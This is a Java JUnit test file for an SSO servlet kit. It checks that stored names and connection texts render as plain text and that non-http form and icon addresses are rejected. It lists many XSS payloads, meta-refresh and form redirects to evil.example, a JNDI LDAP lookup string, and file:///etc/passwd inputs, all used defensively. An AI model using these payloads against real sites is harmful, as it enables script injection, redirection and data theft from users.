package io.ssokit.servlet.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import io.ssokit.servlet.PagesProbe;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** U-01: texts of people, groups, connections and identity providers stay texts on every page of the kit. */
class StoredXssTest {
    private static final Pattern TAG = Pattern.compile("<([/!?a-zA-Z][^\\s/>]*)((?:\"[^\"]*\"|'[^']*'|[^\"'>])*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([^\\s=/\"']+)(?:=(?:\"[^\"]*\"|'[^']*'|[^\\s\"']+))?");

    private static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=alert(1) x=\"",
            "</title><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<a href=javascript:alert(1)>x</a>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<form action=//evil.example><button>",
            "<!--<script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "\u003cscript\u003ealert(1)\u003c/script\u003e",
            "${7*7}${jndi:ldap://evil.example}<%= 7*7 %>");

    @Test
    @Tag("U-01")
    void everyPage_hostileTexts_addNoMarkup() {
        List<String> accepted = new ArrayList<>();
        int tried = 0;
        List<String> harmless = PagesProbe.pages("x");
        for (String payload : PAYLOADS) {
            List<String> hostile = PagesProbe.pages(payload);
            for (int page = 0; page < harmless.size(); page++) {
                tried++;
                if (!skeleton(hostile.get(page)).equals(skeleton(harmless.get(page)))
                        || hostile.get(page).contains("49")) {
                    accepted.add(payload + " on page " + page);
                }
            }
        }
        System.out.printf("attacks: %d tried, %d accepted%n", tried, accepted.size());
        assertThat(accepted).isEmpty();
    }

    /** The oracle of the test above sees what it looks for. */
    @Test
    void skeleton_markupInATextOrAnAttribute_isSeen() {
        assertThat(skeleton("<p>x</p>")).containsExactly("p", "/p");
        assertThat(skeleton("<p>" + PAYLOADS.get(0) + "</p>")).containsExactly("p", "script", "/script", "/p");
        assertThat(skeleton("<input value=\"" + PAYLOADS.get(6) + "\">")).containsExactly("input value onmouseover");
        assertThat(skeleton("<input value=\"a>b\" x>")).containsExactly("input value x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JavaScript://x/%0aalert(1)",
                "data:text/html,<script>",
                "vbscript:x",
                "file:///etc/passwd",
                "//evil.example",
                "https:x",
                "https://a;script-src%20*/x"
            })
    @Tag("U-01")
    void formToTheIdentityProvider_addressThatIsNotHttp_isNotMade(String action) {
        assertThatIllegalArgumentException()
                .isThrownBy(() ->
                        PagesProbe.post(URI.create(action.replace("<", "%3C").replace(">", "%3E"))));
    }

    /** An icon's address goes into the policy as well: nothing but the origin of an https or http address may. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "data:image/svg+xml,<svg/onload=alert(1)>",
                "file:///etc/passwd",
                "//evil.example/x.png",
                "https:x.png",
                "https://a;script-src%20*/x.png"
            })
    @Tag("U-01")
    void iconOfAConnection_addressThatIsNotHttp_isNotShown(String address) {
        assertThatIllegalArgumentException()
                .isThrownBy(() ->
                        PagesProbe.icon(URI.create(address.replace("<", "%3C").replace(">", "%3E"))));
    }

    /** Tags with the names of their attributes, in order, read as the HTML standard says (§13.2.5). */
    private static List<String> skeleton(String html) {
        List<String> tags = new ArrayList<>();
        Matcher tag = TAG.matcher(html.replaceAll("(?s)<style>.*?</style>", "<style></style>"));
        while (tag.find()) {
            StringBuilder names = new StringBuilder(tag.group(1));
            Matcher attribute = ATTRIBUTE.matcher(tag.group(2));
            while (attribute.find()) {
                names.append(' ').append(attribute.group(1));
            }
            tags.add(names.toString());
        }
        return tags;
    }
}
